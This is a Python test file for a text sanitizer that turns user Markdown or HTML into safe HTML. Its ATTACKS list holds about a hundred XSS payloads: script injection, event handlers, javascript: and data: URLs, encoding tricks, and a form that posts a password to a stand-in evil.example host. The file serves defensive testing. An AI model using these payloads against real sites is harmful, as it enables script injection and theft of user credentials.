"""User text becomes HTML that can do nothing but be read."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Literal

import pytest

from innovation.kernel.text import (
    ATTRIBUTES,
    SCHEMES,
    TAGS,
    difference,
    excerpt,
    marked_difference,
    plain,
    points,
    render,
    slug,
)

Format = Literal["markdown", "html"]

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<p onclick="alert(1)">x</p>',
    '<p ONMOUSEOVER="alert(1)" style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://good.example/" onfocus="alert(1)" autofocus tabindex="1">x</a>',
    '<a href="https://good.example/" target="_top" id="x" class="button" name="y">x</a>',
    '<a href="https://good.example/" title="&quot; onmouseover=&quot;alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror="alert(1)"></template>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="//evil.example"><input name=password><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">x</details>',
    '<marquee onstart="alert(1)">x</marquee>',
    '<body onload="alert(1)">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    '<td background="javascript:alert(1)">x',
    '<table background="//evil.example/x.png"><td width="99999" style="x">x</table>',
    '<ol start="javascript:alert(1)"><li>x</ol>',
    '<p id="main" class="notice notice-stop" role="alert" data-confirm="x" hx-get="/x">x</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<a href='https://good.example/\"><script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '[x](https://good.example/ "title\\" onmouseover=alert(1)")',
    "```<script>\nalert(1)\n</script>```",
    '```html" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "https://good.example/<script>alert(1)</script>",
    'https://good.example/"onmouseover="alert(1)',
    "javascript:alert(1)",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<a href=https://good.example/ href=javascript:alert(1)>x</a>",
    "<p " * 300 + ">",
    "<p>" * 300 + "<script>alert(1)</script>",
    "[" * 300 + "x" + "](javascript:alert(1))" * 300,
]


class _Reader(HTMLParser):
    """Reads HTML as a browser would find tags and attributes in it, and notes what does not belong there."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        self.wrong += [f"{tag}[{name}]" for name, _value in attrs if name not in allowed]
        if tag == "a":
            self.links.append(dict(attrs))
            href = dict(attrs).get("href")
            if href is not None and not re.match(rf"({'|'.join(SCHEMES)}):", href, re.I):
                self.wrong.append(f"href {href}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


def read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


@pytest.mark.parametrize("format", ["markdown", "html"])
@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_but_the_allowed_survives(attack: str, format: Format) -> None:
    for source in (attack, f"Before {attack} after", f"> {attack}", f"- {attack}", f"<div><b>{attack}</b></div>"):
        html = str(render(source, format))
        assert read(html).wrong == [], html
        assert "\x00" not in html


@pytest.mark.parametrize("format", ["markdown", "html"])
def test_cleaning_what_is_clean_changes_nothing(format: Format) -> None:
    for attack in ATTACKS:
        once = str(render(attack, format))
        assert read(str(render(once, "html"))).wrong == []


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_plain_text_of_an_attack_is_escaped_by_a_template(attack: str) -> None:
    """What ``plain`` and ``excerpt`` return is text, not markup: a template escapes it."""
    assert type(plain(attack)) is str
    assert type(excerpt(attack)) is str
    assert read(str(marked_difference(attack, "before"))).wrong in ([], ["<ins>", "<del>"], ["<del>", "<ins>"], ["<ins>"])


def test_scripts_and_styles_vanish_with_their_content() -> None:
    html = "<p>One</p><script>alert('two')</script><style>p{three:3}</style><p>Four</p>"
    assert str(render(html, "html")) == "<p>One</p><p>Four</p>"


def test_links_are_followed_by_no_search_engine_and_hand_over_no_window() -> None:
    for source, format in (
        ("[x](https://good.example/)", "markdown"),
        ("https://good.example/", "markdown"),
        ('<a href="https://good.example/" rel="follow" target="_blank">x</a>', "html"),
        ('<a href="mailto:a@good.example">x</a>', "html"),
    ):
        [link] = read(str(render(source, format))).links  # type: ignore[arg-type]
        assert set((link["rel"] or "").split()) == {"noopener", "nofollow", "ugc"}
        assert "target" not in link


@pytest.mark.parametrize("href", ["/sign-out", "sign-out", "../admin", "#main", "?x=1", "//evil.example/", ""])
def test_links_into_this_site_are_dropped_and_their_words_kept(href: str) -> None:
    for html in (str(render(f'<p><a href="{href}">the words</a></p>', "html")), str(render(f"[the words]({href})"))):
        assert "the words" in html
        assert "href" not in html


@pytest.mark.parametrize("href", ["https://good.example/a?b=1&c=2", "http://good.example", "mailto:a@good.example"])
def test_links_with_an_address_of_their_own_stay(href: str) -> None:
    for html in (str(render(f'<p><a href="{href}">x</a></p>', "html")), str(render(f"[x]({href})"))):
        [link] = read(html).links
        assert link["href"] == href


def test_an_address_that_cannot_be_read_is_no_link() -> None:
    assert "href" not in str(render('<a href="https://[::1">x</a>', "html"))


def test_first_headings_are_one_lower_so_that_a_page_has_one() -> None:
    assert str(render("# Dry coolers")).strip() == "<h2>Dry coolers</h2>"
    assert str(render("<H1 class=big>Dry coolers</H1>", "html")) == "<h2>Dry coolers</h2>"
    assert "<h1" not in str(render("Dry coolers\n===\n\n# Two"))
    assert str(render("### Three")).strip() == "<h3>Three</h3>"


def test_old_html_keeps_its_meaning_in_todays_words() -> None:
    html = str(render("<div><b>Bold</b> <i>leaning</i> <strike>gone</strike></div>", "html"))
    assert html == "<p><strong>Bold</strong> <em>leaning</em> <del>gone</del></p>"
    assert str(render("<bold>x</bold>", "html")) == "x"


def test_empty_paragraphs_are_left_out() -> None:
    assert str(render("<p>One</p><p>&nbsp;</p><p><br></p><p>Two</p>", "html")) == "<p>One</p><p>Two</p>"


def test_markdown_is_what_readers_expect() -> None:
    html = str(
        render("Two *fans*, **dry**, ~~wet~~.\n\n1. one\n2. two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n> said\n\n`x < y`")
    )
    for part in ("<em>fans</em>", "<strong>dry</strong>", "<ol>", "<table>", "<td>2</td>", "<blockquote>"):
        assert part in html
    assert "<code>x &lt; y</code>" in html
    assert re.search(r"<(s|del)>wet</(s|del)>", html)


def test_html_in_markdown_is_shown_not_obeyed() -> None:
    assert str(render("<b>not bold</b>")).strip() == "<p>&lt;b&gt;not bold&lt;/b&gt;</p>"


def test_plain_text_has_no_markup_and_keeps_words_apart() -> None:
    assert plain("# Title\n\nTwo *fans*.\n\n- one\n- two") == "Title Two fans. one two"
    assert plain("<p>One</p><p>two &amp; three</p>", "html") == "One two & three"


def test_an_excerpt_leaves_headings_out_and_ends_between_words() -> None:
    source = "# Title\n\n" + "word " * 100
    found = excerpt(source, 50)
    assert not found.startswith("Title")
    assert found.endswith("word …")
    assert len(found) <= 52
    assert excerpt("# Only a title") == "Only a title"
    assert excerpt("Short.") == "Short."
    assert excerpt("") == ""
    assert "…" in excerpt("x" * 500)


def test_an_excerpt_holds_no_markup() -> None:
    assert "<" not in excerpt("**bold** [link](https://good.example/) `code`" * 20)


def test_a_difference_gives_both_texts_back() -> None:
    before, after = "Two fans in the shade.", "Three fans in the deep shade."
    parts = list(difference(before, after))
    assert "".join(words for kind, words in parts if kind != "added") == before
    assert "".join(words for kind, words in parts if kind != "removed") == after


def test_a_marked_difference_escapes_the_texts() -> None:
    marked = str(marked_difference("a <b> c", "a <i> c"))
    assert marked == "a <del>&lt;i&gt;</del><ins>&lt;b&gt;</ins> c"


@pytest.mark.parametrize(
    "title, expected",
    [("Dry coolers!", "dry-coolers"), ("  Ünïcode ", "n-code"), ("", ""), ("///", ""), ("x" * 99, "x" * 60)],
)
def test_a_slug_is_safe_in_an_address(title: str, expected: str) -> None:
    assert slug(title) == expected


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("Works at 4 bar.\nCosts less than today.", "- Works at 4 bar.\n- Costs less than today."),
        ("Works at 4 bar.\r\n120 litres an hour", "- Works at 4 bar.\n- 120 litres an hour"),
        ("One line alone.", "One line alone."),
        ("A sentence that\ngoes on.", "A sentence that\ngoes on."),
        ("A paragraph.\n\nAnother.", "A paragraph.\n\nAnother."),
        ("- Works\n- Costs less", "- Works\n- Costs less"),
        ("1. Works\n2. Costs less", "1. Works\n2. Costs less"),
        ("# Heading\nText", "# Heading\nText"),
        ("", ""),
    ],
)
def test_points_typed_one_on_a_line_become_a_list(typed: str, shown: str) -> None:
    assert points(typed) == shown


def test_points_of_imported_html_stay_as_they_are() -> None:
    assert points("<p>One</p>\n<p>Two</p>", "html") == "<p>One</p>\n<p>Two</p>"


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ('<p>See <img src="/a.png" alt="the drawing"> here</p>', "<p>See  the drawing  here</p>"),
        ('<p>A<img src="x" alt="<b onclick=x()>">B</p>', "<p>A &lt;b onclick=x()&gt; B</p>"),
        ('<p>A</p><p><img src="/a.png"></p><p>B</p>', "<p>A</p><p>B</p>"),
        ('<p>A <a href="https://example.org/a.png"><img src="/a.png"></a>B</p>', "<p>A B</p>"),
    ],
)
def test_an_image_becomes_the_words_that_stand_for_it(typed: str, shown: str) -> None:
    assert str(render(typed, "html")) == shown


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("<h2>A</h2><h4>b</h4><h4>c</h4><h2>D</h2>", "<h2>A</h2><h3>b</h3><h3>c</h3><h2>D</h2>"),
        ("<h4>a</h4><h2>B</h2><h3>c</h3><h6>d</h6>", "<h2>a</h2><h2>B</h2><h3>c</h3><h4>d</h4>"),
        ("<h1>A</h1><h3>b</h3>", "<h2>A</h2><h3>b</h3>"),
    ],
)
def test_headings_of_imported_text_go_down_one_step_at_a_time(typed: str, shown: str) -> None:
    assert str(render(typed, "html")) == shown


def test_padding_of_imported_text_is_one_space_and_nothing_takes_no_place() -> None:
    assert str(render("<p>Low&nbsp;&nbsp; &nbsp;high,\u200b 5&nbsp;km</p>", "html")) == "<p>Low high, 5&nbsp;km</p>"
